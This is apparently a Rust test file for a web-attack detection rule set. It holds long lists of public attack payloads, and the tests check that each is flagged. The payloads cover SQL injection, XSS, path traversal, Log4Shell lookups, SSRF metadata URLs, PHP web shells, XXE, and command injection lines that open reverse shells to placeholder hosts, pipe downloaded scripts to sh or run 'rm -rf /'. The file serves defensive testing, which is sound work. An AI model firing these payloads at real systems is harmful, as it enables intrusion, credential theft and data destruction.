//! Attacks of public knowledge, in our own words: each is found, and by a rule of the kind it is.
#![allow(clippy::unwrap_used, clippy::panic)]

mod common;

use common::{Written, encoded, everywhere, get, post};
use threat_rules::{NotRead, RuleGroup};

/// Values of arguments, by what they are.
const VALUES: &[(RuleGroup, &[&str])] = &[
    (
        RuleGroup::Sql,
        &[
            "1' OR '1'='1",
            "' or 1=1--",
            "admin'--",
            "admin' #",
            "' OR ''='",
            "1 OR 1=1",
            "1) or (1=1",
            "\" or \"a\"=\"a",
            "x' AND email IS NULL; --",
            "1; DROP TABLE users--",
            "1'; DROP TABLE users; --",
            "1 UNION SELECT username, password FROM users",
            "' UNION ALL SELECT NULL,NULL,NULL--",
            "1/**/UNION/**/SELECT/**/1,2,3",
            "1 uNiOn SeLeCt 1,version()",
            "-1' UNION SELECT 1,group_concat(table_name) FROM information_schema.tables-- -",
            "1' AND SLEEP(5)-- -",
            "1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- -",
            "1; WAITFOR DELAY '0:0:5'--",
            "1' AND extractvalue(1,concat(0x7e,version()))-- ",
            "1' or benchmark(10000000,md5(1))#",
            "1 and ascii(substring((select password from users limit 1),1,1))>64",
            "'; exec master..xp_cmdshell 'dir'--",
            "1' order by 3-- -",
            "1' INTO OUTFILE '/var/www/a.php'-- ",
            "' || (select password from users where username='admin') || '",
            "1'/*!50000union*/ /*!50000select*/ 1,2",
            "1%27%20or%20%271%27%3D%271",
            "') or ('a'='a",
            "' or sleep(5) and '1'='1",
            "1 or pg_sleep(5)--",
            "1'; declare @a varchar(9); exec(@a)",
            "if (1<2) then' or ascii(substring(password,1,1))>64-- ",
            "1; truncate table orders",
            "1'; alter table users add admin int; ",
        ],
    ),
    (
        RuleGroup::Script,
        &[
            "<script>alert(1)</script>",
            "<ScRiPt>alert(1)</sCrIpT>",
            "\"><script src=https://evil.example/x.js></script>",
            "<img src=x onerror=alert(1)>",
            "<img/src=x/onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg/onload=alert`1`>",
            "<body onpageshow=alert(1)>",
            "<iframe src=javascript:alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "javascript:alert(document.cookie)",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "&#x3c;img src=x onerror=alert(1)&#x3e;",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "<details open ontoggle=alert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "<math><mtext></p><svg onload=alert(1)>",
            "\" onmouseover=\"alert(1)",
            "' autofocus onfocus='alert(1)",
            "';alert(1)//",
            "<object data=javascript:alert(1)>",
            "<embed src=data:text/html;base64,PHNjcmlwdD4=>",
            "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
            "<base href=//evil.example/>",
            "<scr\0ipt>alert(1)</script>",
            "<div style=\"width:expression(alert(1))\">",
            "<video><source onerror=alert(1)>",
            "data:text/html,<script>alert(1)</script>",
        ],
    ),
    (
        RuleGroup::PathTraversal,
        &[
            "../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "/etc/passwd",
            "/etc/shadow",
            "....//....//etc/passwd",
            "..%2f..%2f..%2fetc%2fpasswd",
            "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
            "/var/www/../../etc/passwd",
            "/proc/self/environ",
            "/proc/1/cmdline",
            "../../../../etc/passwd%00.png",
            "C:\\boot.ini",
            "c:/windows/system32/drivers/etc/hosts",
            "/root/.ssh/id_rsa",
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
            "/etc/./passwd",
            "../../WEB-INF/web.xml",
        ],
    ),
    (
        RuleGroup::Command,
        &[
            "; cat /etc/passwd",
            "x;id",
            "x|id",
            "x && whoami",
            "`id`",
            "$(id)",
            "$(whoami)",
            "x; ls -la",
            "x | ls /",
            "; wget http://evil.example/a.sh -O /var/a",
            "| curl -s https://evil.example/a | sh",
            "; nc -e /bin/sh 192.0.2.7 4444",
            "; bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
            "x;c'a't /e't'c/passwd",
            "x;c\\at /etc/passwd",
            "cat${IFS}/etc/passwd",
            "; ping -c 1 evil.example",
            "& ping -n 1 evil.example",
            "x; python3 -c 'import os'",
            "; rm -rf /",
            "; uname -a",
            "() { :; }; echo vulnerable",
            "| powershell -enc SQBFAFgA",
            "& cmd /c dir",
            "; certutil.exe -urlcache -f http://evil.example/a a",
            "x; chmod 777 /var/a",
            "x\nid\n",
            "; nslookup evil.example.com",
            "| net user attacker",
            "; perl -e 'system(1)'",
            "; /usr/bin/id",
        ],
    ),
    (
        RuleGroup::Template,
        &[
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example}",
            "${jndi:dns://evil.example}",
            "{{7*7}}",
            "{{7*'7'}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "{{config.items()}}",
            "{{self.__init__.__globals__.__builtins__}}",
            "{{constructor.constructor('alert(1)')()}}",
            "{{lipsum.__globals__.os.popen('id').read()}}",
            "${T(java.lang.Runtime).getRuntime()}",
            "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
            "{{_self.env.registerUndefinedFilterCallback('exec')}}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex('id').getRuntime()}",
            "<!--#exec cmd=\"id\" -->",
            "*{7*7}",
        ],
    ),
    (
        RuleGroup::ServerRequest,
        &[
            "http://169.254.169.254/latest/meta-data/",
            "http://169.254.169.254",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://[fd00:ec2::254]/latest/",
            "http://100.100.100.200/latest/meta-data",
            "http://0xa9fea9fe/",
            "http://2852039166/",
            "gopher://127.0.0.1:6379/_INFO",
            "dict://127.0.0.1:11211/stats",
            "file:///etc/hosts",
            "http://2130706433/",
            "http://0x7f000001/",
            "http://user@169.254.169.254/",
            "http://[::ffff:127.0.0.1]/admin",
            "http://169.254.170.2/v2/credentials",
        ],
    ),
    (
        RuleGroup::RemoteFile,
        &[
            "php://input",
            "php://filter/convert.base64-encode/resource=index.php",
            "phar://upload.jpg/a",
            "expect://id",
            "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==",
            "zip://a.jpg#b",
            "http://192.0.2.7/shell.txt",
            "http://192.0.2.7:8080/c.php?",
        ],
    ),
    (
        RuleGroup::Deserialization,
        &[
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
            "AAEAAAD/////AQAAAAAAAAAMAgAAAA==",
            "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
            "<?php system($_GET['c']); ?>",
            "<?=`$_GET[0]`?>",
            "eval(base64_decode('aWQ='))",
            "!!python/object/apply:os.system ['id']",
            "!!javax.script.ScriptEngineManager [x]",
            "_$$ND_FUNC$$_function(){}()",
            "require('child_process').exec('id')",
            "process.mainModule.require('fs')",
            "__import__('os').system('id')",
            "java.lang.Runtime.getRuntime().exec('id')",
            "auto_prepend_file=php://input",
            "phpinfo();//",
            "{\"__proto__\":{\"admin\":true}}",
        ],
    ),
    (
        RuleGroup::Protocol,
        &[
            "a\r\nSet-Cookie: session=1",
            "a\0b",
            "a\r\n\r\nHTTP/1.1 200 OK",
            "x\r\nGET /admin HTTP/1.1\r\n",
        ],
    ),
    (
        RuleGroup::Session,
        &[
            "<script>document.cookie=\"sid=1\"</script>",
            "<meta http-equiv=\"Set-Cookie\" content=\"sid=1\">",
        ],
    ),
];

/// Requests that are an attack by more than a value.
fn whole_requests() -> Vec<(RuleGroup, &'static str, Written)> {
    use RuleGroup as G;
    let agent = |name: &str| get("/").with("user-agent", name);
    vec![
        (G::Scanner, "sqlmap", agent("sqlmap/1.9#stable (https://sqlmap.org)")),
        (
            G::Scanner,
            "nikto",
            agent("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"),
        ),
        (
            G::Scanner,
            "nuclei",
            agent("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
        ),
        (G::Scanner, "gobuster", agent("gobuster/3.6")),
        (G::Scanner, "ffuf", agent("Fuzz Faster U Fool v2.1.0")),
        (G::Scanner, "masscan", agent("masscan/1.3")),
        (G::Scanner, "wpscan", agent("WPScan v3.8")),
        (
            G::Scanner,
            "nmap",
            agent(
                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            ),
        ),
        (G::PathTraversal, "git", get("/.git/config")),
        (G::PathTraversal, "git encoded", get("/%2egit/HEAD")),
        (G::PathTraversal, "env", get("/.env")),
        (G::PathTraversal, "env in a folder", get("/app/.env.production")),
        (G::PathTraversal, "aws", get("/.aws/credentials")),
        (G::PathTraversal, "key", get("/backup/id_rsa")),
        (G::PathTraversal, "htpasswd", get("/.htpasswd")),
        (G::PathTraversal, "actuator", get("/actuator/heapdump")),
        (G::PathTraversal, "a path that leaves", get("/static/../../../etc/passwd")),
        (
            G::PathTraversal,
            "a path that leaves, encoded",
            get("/static/..%2f..%2f..%2fetc%2fpasswd"),
        ),
        (
            G::PathTraversal,
            "a path that leaves, twice encoded",
            get("/static/%252e%252e/%252e%252e/etc/passwd"),
        ),
        (G::PathTraversal, "a path that leaves, with a semicolon", get("/static/..;/manager/html")),
        (
            G::PathTraversal,
            "a path that leaves, backslashes",
            get("/static/..%5c..%5cwindows%5cwin.ini"),
        ),
        (G::Protocol, "overlong", get("/%c0%ae%c0%ae/etc/passwd")),
        (G::Protocol, "overlong in an argument", get("/?f=%c0%ae%c0%ae%c0%afa")),
        (G::Protocol, "twice encoded path", get("/a%252fb")),
        (G::Protocol, "trace", Written { method: "TRACE", ..get("/") }),
        (G::Template, "a lookup in the agent", agent("${jndi:ldap://evil.example/a}")),
        (
            G::Template,
            "a lookup in any header",
            get("/").with("x-api-version", "${jndi:ldap://evil.example/a}"),
        ),
        (G::Template, "a lookup in the path", get("/$%7Bjndi:ldap://evil.example/a%7D")),
        (
            G::Template,
            "ognl in the content type",
            get("/").with(
                "content-type",
                "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
            ),
        ),
        (G::Command, "shellshock", agent("() { :; }; /bin/cat /etc/passwd")),
        (G::Sql, "a document store", get("/login?user[$ne]=x&password[$ne]=x")),
        (
            G::Sql,
            "a document store in JSON",
            post("application/json", r#"{"user":{"$ne":null},"password":{"$gt":""}}"#),
        ),
        (G::Sql, "in a cookie", get("/").with("cookie", "id=1' OR '1'='1")),
        (G::Sql, "in the name of an argument", get(format!("/?{}=1", encoded("1' or '1'='1")))),
        (
            G::Sql,
            "without an equals sign",
            post("application/x-www-form-urlencoded", encoded("1' or '1'='1")),
        ),
        (G::Sql, "plus for a space", get("/?q=1'+UNION+SELECT+password+FROM+users--+")),
        (
            G::Sql,
            "in XML",
            post("application/xml", "<o><q>1' UNION SELECT password FROM users-- </q></o>"),
        ),
        (
            G::Sql,
            "in an attribute of XML",
            post("application/xml", "<o q=\"1' UNION SELECT password FROM users-- \"/>"),
        ),
        (
            G::Sql,
            "the first of two members",
            post("application/json", r#"{"q":"1' OR '1'='1","q":"safe"}"#),
        ),
        (
            G::Sql,
            "the last of two members",
            post("application/json", r#"{"q":"safe","q":"1' OR '1'='1"}"#),
        ),
        (G::Sql, "the first of two arguments", get("/?q=1'%20OR%20'1'='1&q=safe")),
        (G::Sql, "JSON that is none", post("application/json", "{'q': '1; DROP TABLE users--', x")),
        (
            G::Sql,
            "JSON deeper than is read",
            post(
                "application/json",
                format!("{}\"1' OR '1'='1\"{}", "[".repeat(100), "]".repeat(100)),
            ),
        ),
        (G::Script, "as plain text", post("text/plain", "<script>alert(1)</script>")),
        (
            G::Script,
            "without a type",
            Written { headers: Vec::new(), ..post("x/y", "<script>alert(1)</script>") },
        ),
        (G::Script, "in the path", get("/%3Cscript%3Ealert(1)%3C/script%3E")),
        (G::Script, "in UTF-7", get("/?q=%2BADw-script%2BAD4-alert(1)")),
        (
            G::Script,
            "the name of an upload",
            upload("<img src=x onerror=alert(1)>.png", "image/png", "x"),
        ),
        (G::Deserialization, "an upload that runs", upload("shell.php", "image/png", "x")),
        (
            G::Deserialization,
            "an upload that runs, two endings",
            upload("shell.php.png", "image/png", "x"),
        ),
        (
            G::Deserialization,
            "an entity",
            post(
                "application/xml",
                "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            ),
        ),
        (G::Deserialization, "a prototype", get("/?__proto__[admin]=1")),
        (
            G::Deserialization,
            "a prototype in JSON",
            post("application/json", r#"{"__proto__":{"admin":true}}"#),
        ),
        (
            G::Deserialization,
            "a class loader",
            post("application/x-www-form-urlencoded", "class.module.classLoader.resources=x"),
        ),
        (
            G::Deserialization,
            "an object in a cookie",
            get("/").with("cookie", "state=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="),
        ),
        (G::Sql, "a segment of a path", get("/users/1'%20or%20'1'='1/profile")),
        (G::Sql, "a number in a path", get("/users/1%20or%201=1/profile")),
        (G::Sql, "UNION in a path", get("/items/1%20union/**/select%20a,b/of")),
        (
            G::PathTraversal,
            "the name of an upload that leaves",
            upload("../../shell.txt", "text/plain", "x"),
        ),
        (
            G::Sql,
            "a boundary in quotes",
            Written {
                headers: vec![(
                    "content-type",
                    "multipart/form-data; charset=utf-8; boundary=\"x7\"".to_owned(),
                )],
                ..multipart("note", "1' OR '1'='1")
            },
        ),
        (
            G::Sql,
            "a boundary in capitals",
            Written {
                headers: vec![("content-type", "Multipart/Form-Data; Boundary=x7".to_owned())],
                ..multipart("note", "1' OR '1'='1")
            },
        ),
        (
            G::Sql,
            "lines that end in a line feed",
            post(
                "multipart/form-data; boundary=x7",
                "--x7\nContent-Disposition: form-data; name=a\n\n1' OR '1'='1\n--x7--\n",
            ),
        ),
        (
            G::Sql,
            "no boundary",
            post(
                "multipart/form-data",
                "--x7\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1; DROP TABLE users--\r\n--x7--\r\n",
            ),
        ),
        (
            G::Sql,
            "parts that do not end",
            post(
                "multipart/form-data; boundary=x7",
                "--x7\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1' OR '1'='1",
            ),
        ),
        (
            G::Sql,
            "a file without a name",
            post(
                "multipart/form-data; boundary=x7",
                "--x7\r\nContent-Disposition: form-data; name=\"a\"; filename=\"\"\r\n\r\n1' OR '1'='1\r\n--x7--\r\n",
            ),
        ),
    ]
}

fn multipart(name: &str, value: &str) -> Written {
    post(
        "multipart/form-data; boundary=x7",
        format!(
            "--x7\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n--x7--\r\n"
        ),
    )
}

fn upload(file: &str, content_type: &str, content: &str) -> Written {
    let head = format!(
        "Content-Disposition: form-data; name=\"f\"; filename=\"{file}\"\r\nContent-Type: {content_type}"
    );
    post(
        "multipart/form-data; boundary=x7",
        format!("--x7\r\n{head}\r\n\r\n{content}\r\n--x7--\r\n"),
    )
}

#[test]
fn attacks_are_found_by_rules_of_their_kind() {
    let mut rows = Vec::new();
    for (group, values) in VALUES {
        for value in *values {
            for (place, written) in everywhere(value) {
                // A NUL byte within a name of JSON and the line ends of a part are what they are about.
                rows.push((*group, format!("{place}: {value}"), written));
            }
        }
    }
    rows.extend(
        whole_requests()
            .into_iter()
            .map(|(group, name, written)| (group, name.to_owned(), written)),
    );
    assert!(rows.len() >= 200, "{} rows", rows.len());
    let mut missed = Vec::new();
    for (group, name, written) in &rows {
        let found = written.inspect(1);
        let groups: Vec<_> =
            found.matches.iter().map(|found| (found.rule, found.group.as_str())).collect();
        if found.score < 5 || !found.matches.iter().any(|found| found.group == *group) {
            missed.push(format!("{group}: {name}: score {}, {groups:?}", found.score));
        }
    }
    assert!(missed.is_empty(), "{} of {}:\n{}", missed.len(), rows.len(), missed.join("\n"));
}

/// Values that the detector of SQL takes for SQL and the next link does not, in front of one that both do.
#[test]
fn decoys_do_not_hide_an_attack() {
    let decoys = "a=(a)+or+(b)&".repeat(500);
    let found =
        post("application/x-www-form-urlencoded", format!("{decoys}z={}", encoded("1' or '1'='1")))
            .inspect(1);
    assert!(found.matches.iter().any(|found| found.rule == 9_100_601), "{found:?}");
}

/// A name that is cut where it stands before other names is looked at whole.
#[test]
fn s49_long_names_hide_nothing_and_are_not_copied() {
    let name = "n".repeat(2_000) + "' or '1'='1";
    let body = serde_json::json!({ (name.as_str()): vec!["x"; 1_000] }).to_string();
    let found = post("application/json", body).inspect(1);
    assert!(found.matches.iter().any(|found| found.group == RuleGroup::Sql), "{found:?}");
    assert!(found.matches.iter().all(|found| found.variable.len() <= 64));
}

/// What the rules cannot see as an application may is said, so that it can be refused, and looked at all the same.
#[test]
fn what_cannot_be_taken_apart_is_said() {
    use NotRead::{Malformed, TooMany};
    let json = |text: &str| post("application/json", text.to_owned());
    let sql = r#""q":"1\u0027\u0020or\u0020\u00271\u0027=\u00271""#;
    let zeros = "0,".repeat(2_049);
    let deletes = "\x7f".repeat(12);
    let script = "<script>alert(1)</script>";
    let utf16: Vec<u8> = r#"{"q":"<script>"}"#.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let rows = [
        (
            "many values behind odd bytes",
            json(&format!(r#"{{"p":"{deletes}","x":[{zeros}0],"q":"{script}"}}"#)),
            Some(TooMany),
            true,
        ),
        (
            "many elements behind odd bytes",
            post(
                "application/xml",
                format!("<a><p>{deletes}</p>{}<q>&lt;script></q></a>", "<b>0</b>".repeat(2_049)),
            ),
            Some(TooMany),
            true,
        ),
        ("odd bytes in a text", post("text/plain", format!("{deletes}{script}")), None, true),
        (
            "JSON in UTF-16",
            post("application/json; charset=utf-16le", utf16),
            Some(Malformed),
            false,
        ),
        (
            "a form in EBCDIC",
            post("application/x-www-form-urlencoded; charset=\"ibm037\"", "a=b"),
            Some(Malformed),
            false,
        ),
        (
            "XML that declares another encoding",
            post("application/xml", "<?xml version=\"1.0\" encoding=\"utf-7\"?><a>+ADw-</a>"),
            Some(Malformed),
            false,
        ),
        ("XML without an element", post("application/xml", "1' or '1'='1"), Some(Malformed), true),
        ("many values first", json(&format!(r#"{{"x":[{zeros}0],{sql}}}"#)), Some(TooMany), true),
        (
            "a number that is too large",
            json(&format!(r#"{{"x":1e999,{sql}}}"#)),
            Some(Malformed),
            true,
        ),
        ("half a letter", json(&format!(r#"{{"x":"\ud800",{sql}}}"#)), Some(Malformed), true),
        ("a mark of UTF-8", json(&format!("\u{feff}{{{sql}}}")), None, true),
        (
            "deeper than is read",
            json(&format!(r#"{{"x":{}{},{sql}}}"#, "[".repeat(65), "]".repeat(65))),
            Some(TooMany),
            true,
        ),
        ("a comment", json(&format!("{{/**/{sql}}}")), Some(Malformed), true),
        ("JSON in another type", post("text/plain", format!("{{{sql}}}")), None, true),
        (
            "JSON without a type it has",
            post("application/octet-stream", r#"{"password":{"$ne":null}}"#),
            None,
            true,
        ),
        (
            "the second of two lines of JSON",
            post("application/x-ndjson", format!("{{}}\n{{{sql}}}")),
            None,
            true,
        ),
        ("an empty array", json(r#"{"user":"admin","password":{"$ne":[]}}"#), None, true),
        ("a name above an empty object", json(r#"{"1' or '1'='1":{}}"#), None, true),
        (
            "empty cookies",
            get("/").with("cookie", format!("{}q=1' or '1'='1", ";".repeat(2_048))),
            None,
            true,
        ),
        (
            "more cookies than are read",
            get("/").with("cookie", format!("{}q=1' or '1'='1", "a=b;".repeat(2_048))),
            Some(TooMany),
            true,
        ),
        ("empty arguments", get(format!("/?{}q=1%20or%201=1", "&".repeat(2_048))), None, true),
        (
            "more arguments than are read",
            get(format!("/?{}q=1", "a&".repeat(2_048))),
            Some(TooMany),
            false,
        ),
    ];
    for (name, written, expected, is_found) in rows {
        let found = written.inspect(1);
        assert_eq!(found.incomplete, expected, "{name}: {found:?}");
        assert!(!is_found || found.score >= 5, "{name}: {found:?}");
    }
}

/// The name of an argument is not told where it is what matched.
#[test]
fn s52_names_that_matched_are_not_told() {
    for written in [
        get(format!("/?{}", encoded("<script>alert(1)</script>"))),
        get(format!("/?{}=1", encoded("<script>alert(1)</script>"))),
    ] {
        let found = written.inspect(1);
        assert!(!found.matches.is_empty());
        for one in &found.matches {
            assert!(!one.variable.contains("script"), "{one:?}");
        }
    }
}

/// A multipart body that applications take apart in different ways is said to be one.
#[test]
fn a_multipart_body_is_read_in_one_way_or_said_to_be_none() {
    let field = "Content-Disposition: form-data; name=\"q\"";
    let attack = "1' or '1'='1";
    let one = |head: &str| format!("--x\r\n{head}\r\n\r\n{attack}\r\n--x--\r\n");
    let plain = "multipart/form-data; boundary=x";
    let rows: Vec<(&str, &str, String, bool)> = vec![
        ("as it should be", plain, one(field), true),
        ("blanks behind a delimiter", plain, one(field).replacen("--x\r\n", "--x \r\n", 1), true),
        (
            "a boundary in single quotes, literally",
            "multipart/form-data; boundary='x'",
            one(field).replace("--x", "--'x'"),
            true,
        ),
        (
            "a boundary in single quotes, without them",
            "multipart/form-data; boundary='x'",
            one(field),
            false,
        ),
        (
            "another line that begins as a delimiter",
            plain,
            one(field).replace("--x--", "--xfoo\r\n--x--"),
            false,
        ),
        (
            "an escaped backslash",
            plain,
            one(r#"Content-Disposition: form-data; name="q"; a="\\"; b="; filename=f; c=""#),
            false,
        ),
        ("a head that ends in line feeds", plain, one(&format!("{field}\n\nz")), false),
        ("two boundaries", "multipart/form-data; boundary=x; boundary=y", one(field), false),
        (
            "a boundary within a parameter",
            "multipart/form-data; a=\"boundary=y\"; boundary=x",
            one(field),
            false,
        ),
        ("two file names", plain, one(&format!("{field}; filename=a; filename=b")), false),
        ("a file name that few know", plain, one(&format!("{field}; filename*=UTF-8''a")), false),
        (
            "a file name in both forms",
            plain,
            one(&format!("{field}; filename=\"a\"; filename*=UTF-8''a")),
            true,
        ),
        (
            "quoted-printable",
            plain,
            one(&format!("{field}\r\nContent-Transfer-Encoding: quoted-printable")),
            false,
        ),
        (
            "a field in UTF-16",
            plain,
            one(&format!("{field}\r\nContent-Type: text/plain; charset=utf-16")),
            false,
        ),
        ("parts behind the last", plain, format!("--x--\r\n{}", one(field)), false),
        (
            "thousands of lines",
            plain,
            format!("--x\r\n{}\r\n\r\n{}", "A\r\n".repeat(8_200), one(field)),
            false,
        ),
        (
            "two dispositions",
            plain,
            one(&format!("{field}\r\nContent-Disposition: form-data; name=f; filename=f")),
            false,
        ),
        ("no end", plain, format!("--x\r\n{field}\r\n\r\n{attack}"), false),
    ];
    for (name, content_type, body, is_plain) in rows {
        let found = post(content_type, body).inspect(1);
        assert_eq!(found.incomplete.is_none(), is_plain, "{name}: {found:?}");
    }
}
